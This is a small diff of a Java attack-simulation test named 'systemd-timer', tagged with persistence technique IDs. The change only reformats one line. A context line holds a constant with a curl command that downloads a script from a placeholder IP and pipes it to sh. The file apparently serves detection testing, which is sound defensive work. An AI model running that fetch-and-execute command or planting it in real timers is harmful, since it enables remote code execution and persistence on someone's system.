@@ -7,7 +7,8 @@ final class SystemdTimer {
     private static final String FETCH = "curl -fsSL http://203.0.113.66/t | sh";
 
     static final SimulatedTest TEST =
-            SimulatedTest.attack("systemd-timer", "A systemd timer that fetches a script and runs it")
+            SimulatedTest.attack(
+                            "systemd-timer", "A systemd timer that fetches a script and runs it")
                     .on(SimulatedTest.Platform.LINUX)
                     .techniques("T1053.006", "T1543.002")
                     .behaviour(
